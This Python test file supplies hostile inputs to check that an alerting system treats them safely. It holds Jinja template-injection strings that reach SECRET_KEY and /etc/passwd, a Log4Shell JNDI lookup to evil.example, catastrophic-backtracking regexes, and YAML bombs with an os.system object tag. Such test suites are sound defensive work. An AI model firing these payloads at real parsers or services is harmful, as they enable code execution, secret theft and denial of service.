"""BI-T: templates, patterns and YAML, where a sender's text or a person's mapping meets them."""

from __future__ import annotations

from tests.bad_input.corpus import READ, Case, alert

TEXTS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__ }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ 'x'*10**9 }}",
    "{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ undefined_name }}",
    "{{ 1/0 }}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{0.__class__}",
    "%(y)s %s %n",
    "${jndi:ldap://evil.example/a}",
]
"""Such text in an alert stays text."""

CASES = [
    Case(f"template {text[:30]}", alert(annotations={"summary": text}, fingerprint=text),
         outcome=READ) for text in TEXTS
]  # fmt: skip

PATTERNS = [
    "(a+)+$", "(a|a)*$", "(.*a){20}", "(?=x)", r"(a)\1", "a{1001}", "((a{100}){100}){100}",
    "a" * 100_000, "", ".*", "\udcff(",
]  # fmt: skip
"""Refused with a sentence, or run by RE2 in a time that follows the length of the text."""

YAML = {
    "billion laughs": "a: &a [x, x]\n" + "\n".join(
        f"b{n}: &b{n} [{', '.join(['*a' if n == 0 else f'*b{n - 1}'] * 9)}]" for n in range(9)
    ),
    "an object tag": "x: !!python/object/apply:os.system [id]",
    "binary of 10 MB": "x: !!binary " + "A" * 400_000,
    "an anchor in itself": "a: &a [*a]",
    "on: yes": "on: yes",
    "nested 1,000 deep": "[" * 1000 + "]" * 1000,
    "tabs": "a:\n\tb: 1",
}  # fmt: skip
